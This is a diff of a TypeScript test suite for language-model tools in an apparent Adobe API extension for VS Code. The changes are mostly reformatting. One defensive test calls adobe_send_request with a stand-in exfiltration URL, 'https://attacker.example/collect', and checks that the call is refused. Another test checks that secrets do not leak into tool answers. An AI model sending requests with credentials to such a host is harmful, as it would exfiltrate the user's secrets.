@@ -16,7 +16,15 @@ interface Info {
 	clients: Record<'demo' | 'leakHunt' | 'storageDenied', { clientId: string; clientSecret: string }>;
 }
 
-const TOOLS = ['adobe_list_profiles', 'adobe_check_setup', 'adobe_verify_credential', 'adobe_list_storage', 'adobe_get_asset', 'adobe_send_request', 'adobe_get_job'];
+const TOOLS = [
+	'adobe_list_profiles',
+	'adobe_check_setup',
+	'adobe_verify_credential',
+	'adobe_list_storage',
+	'adobe_get_asset',
+	'adobe_send_request',
+	'adobe_get_job',
+];
 const PROFILE = 'Agent';
 const DENIED = 'Agent without storage';
 const run = <T>(command: string, args?: unknown) => Promise.resolve(vscode.commands.executeCommand<T>(command, args));
@@ -88,9 +96,11 @@ describe('Language model tools (vscode.lm)', function () {
 		assert.match(text, new RegExp(DENIED));
 	});
 
-	it('lists the demo projects, then a folder\'s first page and a cursor that fetches the next', async () => {
+	it("lists the demo projects, then a folder's first page and a cursor that fetches the next", async () => {
 		const projects = await call('adobe_list_storage', {});
-		for (const name of ['Brand Refresh 2026', 'Empty Project', 'Product Shots', 'Summer Campaign']) assert.match(projects, new RegExp(name));
+		for (const name of ['Brand Refresh 2026', 'Empty Project', 'Product Shots', 'Summer Campaign']) {
+			assert.match(projects, new RegExp(name));
+		}
 
 		const first = await call('adobe_list_storage', { path: '/Product Shots/Spring', limit: 5 });
 		assert.match(first, /shoe-01\.psd[\s\S]*shoe-05\.jpg/);
@@ -117,7 +127,13 @@ describe('Language model tools (vscode.lm)', function () {
 
 		// A job started the way a request file starts one, followed by the tool to its end.
 		const submit = await vscode.commands.executeCommand<{ job?: { statusUrl: string } }>('adobeApi.sendRequest', {
-			uri: (await vscode.workspace.openTextDocument({ language: 'http', content: 'POST {{$adobeEndpoint firefly}}/v3/images/generate-async\nAuthorization: Bearer {{$adobeToken}}\nx-api-key: {{$adobeClientId}}\nContent-Type: application/json\n\n{"prompt": "a tool"}\n' })).uri.toString(),
+			uri: (
+				await vscode.workspace.openTextDocument({
+					language: 'http',
+					content:
+						'POST {{$adobeEndpoint firefly}}/v3/images/generate-async\nAuthorization: Bearer {{$adobeToken}}\nx-api-key: {{$adobeClientId}}\nContent-Type: application/json\n\n{"prompt": "a tool"}\n',
+				})
+			).uri.toString(),
 		});
 		assert.ok(submit.job?.statusUrl);
 		const job = await call('adobe_get_job', { statusUrl: submit.job.statusUrl, timeoutSeconds: 60 });
@@ -159,13 +175,16 @@ describe('Language model tools (vscode.lm)', function () {
 		const { detail } = asked[0];
 		assert.ok(detail.includes(`\nPOST ${emulatorUrl()}/v3/images/generate-async?variant=1\n`), detail);
 		assert.match(detail, /\ncontent-type: application\/json\nx-trace: abc-123\nX-Session-Token: ‹redacted›\n/);
-		assert.match(detail, /\nAuthorization: Bearer ‹the access token of the active Adobe profile›\nx-api-key: ‹the Client ID of the active Adobe profile›\n/);
+		assert.match(
+			detail,
+			/\nAuthorization: Bearer ‹the access token of the active Adobe profile›\nx-api-key: ‹the Client ID of the active Adobe profile›\n/,
+		);
 		assert.ok(detail.endsWith(`\n\n${body}`), 'the body, as it would be sent');
 		assert.ok(!detail.includes(token), 'the token given as a header value is hidden');
 		assert.equal((await emulatorRequests('firefly.generateAsync')).length, before, 'nothing was sent');
 	});
 
-	it('fails a call by throwing, with the reason and the fix: a host that is not Adobe\'s is refused, naming it', async () => {
+	it("fails a call by throwing, with the reason and the fix: a host that is not Adobe's is refused, naming it", async () => {
 		const before = (await emulatorRequests()).length;
 		const message = await failure('adobe_send_request', { url: 'https://attacker.example/collect' });
 		assert.match(message, /attacker\.example/);
@@ -177,8 +196,14 @@ describe('Language model tools (vscode.lm)', function () {
 	it('refuses input its schema forbids, by throwing, before anything is sent', async () => {
 		const before = (await emulatorRequests()).length;
 		assert.match(await failure('adobe_list_storage', { limit: '20' }), /limit must be a whole number from 1 to 100, not string/);
-		assert.match(await failure('adobe_list_storage', { folder: 'Product Shots' }), /adobe_list_storage does not take "folder"; it accepts profile, projectId/);
-		assert.match(await failure('adobe_send_request', { url: `${emulatorUrl()}/pie/psdService/hello`, method: 'get' }), /method must be one of GET, HEAD, OPTIONS, POST, PUT, PATCH, DELETE/);
+		assert.match(
+			await failure('adobe_list_storage', { folder: 'Product Shots' }),
+			/adobe_list_storage does not take "folder"; it accepts profile, projectId/,
+		);
+		assert.match(
+			await failure('adobe_send_request', { url: `${emulatorUrl()}/pie/psdService/hello`, method: 'get' }),
+			/method must be one of GET, HEAD, OPTIONS, POST, PUT, PATCH, DELETE/,
+		);
 		assert.match(await failure('adobe_get_job', {}), /statusUrl is required/);
 		assert.equal((await emulatorRequests()).length, before, 'nothing was sent');
 	});
@@ -201,9 +226,14 @@ describe('Language model tools (vscode.lm)', function () {
 
 		const secret = info.clients.leakHunt.clientSecret;
 		assert.ok(tokens.size >= 1);
-		assert.ok(answers.some((text) => /Rejected credentials|echo/i.test(text)), 'the echoed bodies reached the tools');
+		assert.ok(
+			answers.some((text) => /Rejected credentials|echo/i.test(text)),
+			'the echoed bodies reached the tools',
+		);
 		const needles = [...echoedForms(secret), ...[...tokens].flatMap((token) => [...echoedForms(token), token.split('.').pop()!])];
-		const leaked = answers.flatMap((text, index) => needles.filter((needle) => needle.length >= 6 && text.includes(needle)).map(() => `answer #${index}: ${text.slice(0, 160)}`));
+		const leaked = answers.flatMap((text, index) =>
+			needles.filter((needle) => needle.length >= 6 && text.includes(needle)).map(() => `answer #${index}: ${text.slice(0, 160)}`),
+		);
 		assert.deepEqual(leaked, []);
 	});
 });
